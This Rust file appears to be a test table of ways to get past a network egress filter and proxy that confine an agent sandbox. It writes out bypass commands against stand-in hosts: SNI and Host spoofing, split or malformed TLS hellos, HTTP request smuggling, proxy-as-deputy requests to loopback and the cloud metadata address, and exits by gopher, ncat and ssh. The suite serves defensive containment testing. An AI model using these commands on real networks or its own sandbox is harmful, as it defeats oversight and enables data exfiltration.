//! Ways out by TLS, HTTP and the proxy: what a flow says of itself, and where it goes.

use super::entry::{BOTH, Entry, Helper, USER, V4, way};

/// Names whose zone leads to this host, for what a proxy could be made to dial.
pub const RULES: &[&str] = &[
    "{host: rebind.test, ports: [443, 7777], private: true}",
    "{host: rebind.test, protocol: http, ports: [80], private: true}",
];

pub const WAYS: &[Entry] = &[
    // A server name, and an address that is not its own.
    tls!(
        "B52-tenant",
        "another tenant of an allowed address",
        "curl -s {dash} https://ok2.test/; \
         curl -sk -m 2 {dash} --connect-to evil2.test:443:ok2.test:443 https://evil2.test/{mark}",
        "curl -sSf -m 5 {dash} https://ok2.test/ | grep 'hello from ok2.test'"
    ),
    tls!(
        "B52-openssl",
        "the same by openssl",
        "openssl s_client {dash} -connect ok2.test:443 -servername {mark}.evil2.test < /dev/null"
    ),
    tls!("B58-openssl", "a true server name at another address", "openssl s_client -connect {url}:443 -servername ok.test < /dev/null"),
    tls!(
        "B58-curl",
        "the same by curl, after a fetch that was allowed",
        "curl -s {dash} https://ok.test/; curl -sk -m 2 --resolve ok.test:443:{ip} https://ok.test/{mark}"
    ),
    tls!(
        "B58-connect-to",
        "the same, by another spelling",
        "curl -s {dash} https://ok.test/; curl -sk -m 2 --connect-to ok.test:443:{url}:443 https://ok.test/{mark}"
    ),
    tls!("B58-http", "the same without TLS", "curl -s -m 2 --resolve ok.test:80:{ip} http://ok.test/{mark}"),
    tls!(
        "B58-exchanged",
        "an allowed name at the address of another",
        "curl -s {dash} https://alt.test/; \
         curl -sk -m 2 {dash} --connect-to {mark}.ok.test:443:alt.test:443 https://{mark}.ok.test/",
        "curl -sSf -m 5 {dash} https://alt.test/"
    ),
    tls!(
        "B59-name",
        "a denied server name at an allowed address",
        "openssl s_client {dash} -connect ok.test:443 -servername {mark}.evil.test < /dev/null"
    ),
    tls!(
        "B59-curl",
        "the same by curl",
        "curl -sk -m 2 {dash} --connect-to {mark}.evil.test:443:ok.test:443 https://{mark}.evil.test/"
    ),
    tls!(
        "B59-subdomain",
        "two labels where one is allowed",
        "curl -sk -m 2 {dash} --connect-to {mark}.b.ok.test:443:ok.test:443 https://{mark}.b.ok.test/"
    ),
    tunnel!(
        "B59-tunnel",
        "a tunnel to an allowed name, another server name in it",
        "curl -sk -m 2 --connect-to {mark}.evil.test:443:ok.test:443 https://{mark}.evil.test/"
    ),
    tunnel!(
        "B59-tunnel-openssl",
        "the same by openssl",
        "openssl s_client -proxy ${http_proxy#http://} -connect ok.test:443 -servername {mark}.evil.test < /dev/null"
    ),
    tunnel!("B59-tunnel-http", "a tunnel without TLS in it", "curl -s -m 2 -p http://ok.test:443/{mark}"),
    tunnel!(
        "B59-tunnel-raw",
        "a tunnel with a text in it",
        "printf 'CONNECT ok.test:443 HTTP/1.1\\r\\nHost: ok.test:443\\r\\n\\r\\n{mark}' \
         | timeout 2 socat -t 1 - tcp:${http_proxy#http://}"
    ),
    tunnel!(
        "B59-tunnel-address",
        "a tunnel to an allowed address, by its number",
        "curl -sk -m 2 --connect-to {mark}.evil.test:443:10.99.0.10:443 https://{mark}.evil.test/"
    ),
    tunnel!(
        "B59-tunnel-noname",
        "a tunnel with a hello that names nobody",
        "openssl s_client -proxy ${http_proxy#http://} -connect ok.test:443 -noservername -alpn {mark} < /dev/null"
    ),
    declared!("B59-fronting", "a true server name with another Host inside: declared in SECURITY.md"),
    // What is no hello with one name.
    tls!("B60-none", "no server name", "openssl s_client {dash} -connect ok.test:443 -noservername -alpn {mark} < /dev/null"),
    tls!("B60-address", "an address as server name", "openssl s_client {dash} -connect ok.test:443 -servername {ok} -alpn {mark} < /dev/null"),
    tls!("B60-raw", "no TLS at all", "curl -s {dash} https://ok.test/; echo {mark} | socat -t 1 - tcp:{ok_url}:443"),
    tls!("B60-http", "HTTP on a TLS port", "curl -s -m 2 {dash} http://ok.test:443/{mark}"),
    tls!("B60-ssh", "ssh on a TLS port", "curl -s {dash} https://ok.test/; printf 'SSH-2.0-{mark}\\r\\n' | socat -t 1 - tcp:{ok_url}:443"),
    tls!(
        "B60-starttls",
        "a protocol that begins in the clear",
        "timeout 2 openssl s_client {dash} -connect ok.test:443 -starttls xmpp -xmpphost {mark} < /dev/null"
    ),
    tls!("B60-dtls", "TLS by datagram", "timeout 2 openssl s_client -dtls1_2 -connect {url}:443 -servername {mark} < /dev/null"),
    tls!("B60-dtls-allowed", "the same to an allowed address", "timeout 2 openssl s_client -dtls1_2 -connect {ok_url}:443 -servername {mark} < /dev/null"),
    hello!("B60-no-extensions", "a hello of another age", "no_extensions"),
    hello!("B60-no-name", "a hello without a name", "no_name"),
    hello!("B60-empty", "an empty name", "empty_name"),
    hello!("B60-number", "an address in the hello", "address_name"),
    hello!("B60-sslv2", "a hello of SSL 2.0", "older_version"),
    hello!("B60-alert", "an alert before the hello", "alert_first"),
    hello!("B60-data", "data before the hello", "data_first"),
    hello!("B60-handshake", "a handshake that is no hello", "other_handshake"),
    hello!("B61-data", "data between the halves of a hello", "data_between"),
    hello!("B61-empty", "empty records", "empty_records"),
    hello!("B61-length", "a hello larger than anyone reads", "huge_length"),
    tls!(
        "B61-cut",
        "a hello cut at every octet",
        "{trick} tls.cut_everywhere {ok} 443 {mark}.evil.test",
        // The kernel reads no hello in two records: by the next one it has made way for the proxy.
        "curl -s {dash} https://ok.test/ && ({trick} tls.cut_everywhere {ok} 443 ok.test \
         || {trick} tls.cut_everywhere {ok} 443 ok.test)"
    ),
    tls!(
        "B61-held-back",
        "a hello without its last octet",
        "curl -s {dash} https://ok.test/; {trick} tls.held_back {ok} 443 {mark}"
    ),
    tls!(
        "B61-dribbled",
        "a hello in segments of one octet",
        "curl -s {dash} https://ok.test/; {trick} hello_dribbled {ok} 443 {mark}.evil.test",
        "curl -s {dash} https://ok.test/; {trick} hello_dribbled {ok} 443 ok.test"
    ),
    tls!(
        "B61-records",
        "a hello in records of fifty octets",
        "curl -s {dash} https://ok.test/; {trick} hello_in_records {ok} 443 {mark}.evil.test 50",
        "curl -s {dash} https://ok.test/; {trick} hello_in_records {ok} 443 ok.test 50 \
         || {trick} hello_in_records {ok} 443 ok.test 50"
    ),
    tls!(
        "B61-large",
        "a hello larger than a record",
        "curl -s {dash} https://ok.test/; {trick} tls.padded {ok} 443 {mark}.evil.test 20000",
        "curl -s {dash} https://ok.test/; {trick} tls.padded {ok} 443 ok.test 20000 \
         || {trick} tls.padded {ok} 443 ok.test 20000"
    ),
    hello!("B61-two-names", "two names in a hello", "two_names"),
    hello!("B61-two-names-reversed", "the denied one first", "two_names_reversed"),
    hello!("B61-two-extensions", "two lists of names", "two_extensions"),
    hello!("B61-two-extensions-reversed", "the denied one first", "two_extensions_reversed"),
    hello!("B61-two-hellos", "two hellos in a record", "two_hellos_in_one"),
    hello!("B61-nul", "a denied name that ends before an allowed one", "nul"),
    hello!("B61-nul-reversed", "an allowed name that ends before a denied one", "nul_reversed"),
    hello!("B61-type", "a name of another type", "other_type"),
    hello!("B61-list", "a list shorter than its name", "long_list"),
    hello!("B61-behind", "a text behind the extensions", "behind_the_extensions"),
    hello!("B61-port", "a port in the name", "port_in_name"),
    hello!("B61-percent", "an escaped dot in the name", "percent"),
    hello!("B61-space", "a space in the name", "space"),
    hello!("B62-outer", "an encrypted hello behind a denied name", "encrypted"),
    declared!("B62-inner", "an encrypted hello behind an allowed name: declared in SECURITY.md"),
    // QUIC.
    tls!("B64-quic", "QUIC", "{trick} tls.quic {ip} 443 {mark}"),
    tls!("B64-quic-allowed", "QUIC to an allowed address", "{trick} tls.quic {ok} 443 {mark}"),
    tls!("B64-quic-port", "QUIC at another port", "{trick} tls.quic {ip} 8443 {mark}"),
    tls!("B64-quic-53", "QUIC at the port of DNS", "{trick} tls.quic {ip} 53 {mark}"),
    // Requests that two parsers read differently, and requests behind requests.
    http!("B65-host", "another Host", "GET / HTTP/1.1\\r\\nHost: {mark}.evil.test\\r\\n\\r\\n"),
    http!(
        "B65-second",
        "a second request, to another Host",
        "GET / HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: {mark}.evil.test\\r\\n\\r\\n"
    ),
    http!("B65-absolute", "another authority in the URI", "GET http://{mark}.evil.test/ HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n"),
    http!("B65-absolute-host", "another authority in Host", "GET http://ok.test/ HTTP/1.1\\r\\nHost: {mark}.evil.test\\r\\n\\r\\n"),
    http!("B65-two-hosts", "two Hosts", "GET / HTTP/1.1\\r\\nHost: ok.test\\r\\nHost: {mark}.evil.test\\r\\n\\r\\n"),
    http!("B65-two-hosts-reversed", "the denied one first", "GET / HTTP/1.1\\r\\nHost: {mark}.evil.test\\r\\nHost: ok.test\\r\\n\\r\\n"),
    http!("B65-folded", "a Host on two lines", "GET / HTTP/1.1\\r\\nHost: ok.test\\r\\n {mark}.evil.test\\r\\n\\r\\n"),
    http!("B65-space", "a space before the colon", "GET / HTTP/1.1\\r\\nHost: ok.test\\r\\nHost : {mark}.evil.test\\r\\n\\r\\n"),
    http!("B65-user", "a user that looks like a host", "GET http://ok.test@{mark}.evil.test/ HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n"),
    http!("B65-fragment", "a fragment that looks like one", "GET http://{mark}.evil.test#@ok.test/ HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n"),
    http!("B65-backslash", "a backslash that ends a host", "GET http://{mark}.evil.test\\\\\\\\@ok.test/ HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n"),
    http!("B65-nul", "a NUL that ends a host", "GET / HTTP/1.1\\r\\nHost: {mark}.evil.test\\0.ok.test\\r\\n\\r\\n"),
    http!("B65-line-feed", "lines without a carriage return", "GET / HTTP/1.1\\nHost: {mark}.evil.test\\n\\n"),
    http!("B65-bare-return", "a carriage return by itself", "GET / HTTP/1.1\\r\\nX: y\\rHost: {mark}.evil.test\\r\\nHost: ok.test\\r\\n\\r\\n"),
    http!("B65-no-host", "no Host", "GET /{mark} HTTP/1.0\\r\\n\\r\\n"),
    http!("B65-09", "a request of HTTP/0.9", "GET /{mark}\\r\\n"),
    http!(
        "B65-cl-te",
        "two lengths, by length and by chunks",
        "POST / HTTP/1.1\\r\\nHost: ok.test\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n\
         0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: {mark}.evil.test\\r\\n\\r\\n"
    ),
    http!(
        "B65-te-te",
        "two transfer codings",
        "POST / HTTP/1.1\\r\\nHost: ok.test\\r\\nTransfer-Encoding: chunked\\r\\nTransfer-Encoding: x\\r\\n\\r\\n\
         0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: {mark}.evil.test\\r\\n\\r\\n"
    ),
    http!(
        "B65-te-tab",
        "a transfer coding behind a tab",
        "POST / HTTP/1.1\\r\\nHost: ok.test\\r\\nTransfer-Encoding:\\x0bchunked\\r\\nContent-Length: 5\\r\\n\\r\\n\
         0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: {mark}.evil.test\\r\\n\\r\\n"
    ),
    http!(
        "B65-cl-cl",
        "two lengths",
        "POST / HTTP/1.1\\r\\nHost: ok.test\\r\\nContent-Length: 0\\r\\nContent-Length: 50\\r\\n\\r\\n\
         GET / HTTP/1.1\\r\\nHost: {mark}.evil.test\\r\\n\\r\\n"
    ),
    http!(
        "B65-upgrade",
        "an upgrade to a protocol that nobody reads",
        "GET / HTTP/1.1\\r\\nHost: ok.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n{mark}"
    ),
    http!(
        "B65-h2c",
        "an upgrade to HTTP/2",
        "GET / HTTP/1.1\\r\\nHost: ok.test\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\n\
         HTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\nPRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n{mark}"
    ),
    http!("B65-preface", "HTTP/2 from the start", "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n{mark}"),
    http!("B65-connect", "a tunnel through the server", "CONNECT {mark}.evil.test:443 HTTP/1.1\\r\\nHost: {mark}.evil.test:443\\r\\n\\r\\n"),
    http!("B65-tls", "TLS on an HTTP port", "\\x16\\x03\\x01\\x00\\x30\\x01\\x00\\x00\\x2c{mark}"),
    http!("B65-raw", "no HTTP at all", "{mark}\\r\\n\\r\\n"),
    http!("B65-long", "a head larger than anyone reads", "GET / HTTP/1.1\\r\\nHost: ok.test\\r\\nX: {mark}%0200000d\\r\\n\\r\\n"),
    tunnel!("B65-proxied-host", "another Host than the URI's, to the proxy", "curl -s -m 2 -H 'Host: {mark}.evil.test' http://ok.test/"),
    declared!("B65-coalescing", "two names of one certificate in one flow: declared in SECURITY.md, as fronting is"),
    // The proxy as a deputy.
    deputy!("B67-loopback", "127.0.0.1"),
    deputy!("B67-localhost", "localhost"),
    deputy!("B67-zero", "0.0.0.0"),
    deputy!("B67-lan", "10.99.0.1"),
    deputy!("B67-v6", "[::1]"),
    deputy!("B67-mapped", "[::ffff:127.0.0.1]"),
    deputy!("B67-v6-lan", "[fd99::1]"),
    deputy!("B67-rebind", "rebind.test"),
    tunnel!("B67-metadata", "the metadata service, by the proxy", "curl -s -m 2 http://169.254.169.254/{mark}; curl -s -m 2 -p http://169.254.169.254/{mark}"),
    tunnel!("B67-address", "a denied address, by the proxy", "curl -s -m 2 http://{url}/{mark}; curl -s -m 2 -p http://{url}:9000/{mark}; curl -sk -m 2 https://{url}/{mark}").over(BOTH),
    tunnel!("B67-port", "a denied port of an allowed name", "curl -s -m 2 http://ok.test:8080/{mark}; curl -s -m 2 -p http://ok.test:8080/{mark}"),
    tunnel!(
        "B67-itself",
        "the proxy through the proxy",
        "proxy=${http_proxy#http://}; printf \"CONNECT $proxy HTTP/1.1\\r\\nHost: $proxy\\r\\n\\r\\n\
         GET http://{mark}.evil.test/ HTTP/1.1\\r\\nHost: {mark}.evil.test\\r\\n\\r\\n\" \
         | timeout 2 socat -t 1 - tcp:$proxy"
    ),
    // Programs that bring their own way.
    tls!("N240-proxy", "a proxy at a denied address", "curl -s -m 2 -x http://{url}:8080 http://ok.test/{mark}"),
    tls!("N241-socks", "one that speaks SOCKS", "curl -s -m 2 -x socks5h://{url}:9000 http://ok.test/{mark}"),
    tls!("N242-tls-proxy", "one behind TLS", "curl -sk -m 2 --proxy-insecure -x https://{mark}.evil.test:443 https://ok.test/").over(V4),
    tls!("N243-gopher", "gopher", "curl -s -m 2 gopher://{url}:9000/_{mark}"),
    tls!("N244-dict", "dict", "curl -s -m 2 dict://{url}:9000/d:{mark}"),
    tls!("N245-telnet", "telnet", "echo {mark} | curl -s -m 2 telnet://{url}:9000"),
    tls!("N246-tftp", "tftp", "curl -s -m 2 tftp://{url}:9000/{mark}"),
    tls!("N247-git", "git", "timeout 2 git ls-remote git://{url}:9000/{mark}"),
    tls!("N248-ssh", "ssh", "timeout 2 ssh -o BatchMode=yes -o ConnectTimeout=1 -p 9000 {mark}@{ip} {mark}"),
    tls!("N249-interface", "by a link of choice", "curl -s -m 2 --interface {link} http://{url}/{mark}"),
    tls!("N250-source-port", "from a port of choice", "curl -s -m 2 --local-port 1024-2048 http://{url}/{mark}"),
    tls!("N251-fast-open", "with data in the first segment", "curl -s -m 2 --tcp-fastopen http://{url}/{mark}"),
    tls!("N252-ncat", "ncat", "echo {mark} | timeout 2 ncat {ip} 9000"),
    tls!("N253-wget", "wget", "wget -q -T 2 -t 1 -O - http://{url}/{mark}").needs("command -v wget", "there is no wget here"),
    // What this suite does not try by a line.
    declared!("B68", "an allowed service that takes anyone's account: declared in SECURITY.md"),
    declared!("B69", "no way out, but a flood: see `a_hello_that_trickles_in_is_denied_after_five_seconds_in_total`"),
];

/// Unless it says otherwise, a fetch is what the same tools may do. What is judged is what an agent
/// says, so it does not matter who says it.
macro_rules! tls {
    ($id:literal, $what:expr, $trick:expr) => {
        tls!($id, $what, $trick, "curl -sSf -m 5 {dash} https://ok.test/")
    };
    ($id:literal, $what:expr, $trick:expr, $allowed:expr) => {
        way($id, $what, $trick).at(USER).works_as($allowed)
    };
}

/// By the proxy that the agent is told of.
macro_rules! tunnel {
    ($id:literal, $what:expr, $trick:expr) => {
        way($id, $what, $trick)
            .at(USER)
            .over(V4)
            .proxied()
            .works_as("curl -v -sSf -m 5 https://ok.test/ 2>&1 | grep 'CONNECT ok.test:443'")
    };
}

/// A hello made by hand, to an address that is granted.
macro_rules! hello {
    ($id:literal, $what:expr, $variant:literal) => {
        tls!(
            $id,
            $what,
            concat!("curl -s {dash} https://ok.test/; {trick} tls.hello ", $variant, " {ok} 443 {mark}")
        )
    };
}

/// A request made by hand, on a flow to an address that is granted.
macro_rules! http {
    ($id:literal, $what:expr, $request:literal) => {
        tls!(
            $id,
            $what,
            concat!(
                "curl -s {dash} http://ok.test/; printf '",
                $request,
                "' | timeout 2 socat -t 0.5 - tcp:{ok_url}:80"
            ),
            "curl -sSf -m 5 {dash} http://ok.test/ http://ok.test/"
        )
    };
}

/// A service of the host's that passes on what it is told, asked for by the proxy.
macro_rules! deputy {
    ($id:literal, $place:literal) => {
        tunnel!(
            $id,
            concat!("a service of the host's at ", $place, ", by the proxy"),
            concat!(
                "curl -s -m 2 http://",
                $place,
                ":7777/{mark}; curl -s -m 2 -p http://",
                $place,
                ":7777/{mark}"
            )
        )
        .helped_by(Helper::Host(
            "socat tcp6-listen:7777,ipv6only=0,fork,reuseaddr tcp:{url}:80 & \
             until ss -tln | grep -q 7777; do sleep 0.02; done; echo ready; wait",
        ))
    };
}

macro_rules! declared {
    ($id:literal, $why:literal) => {
        way($id, "not a line of this table", "true").over(V4).needs("false", $why)
    };
}

use {declared, deputy, hello, http, tls, tunnel};
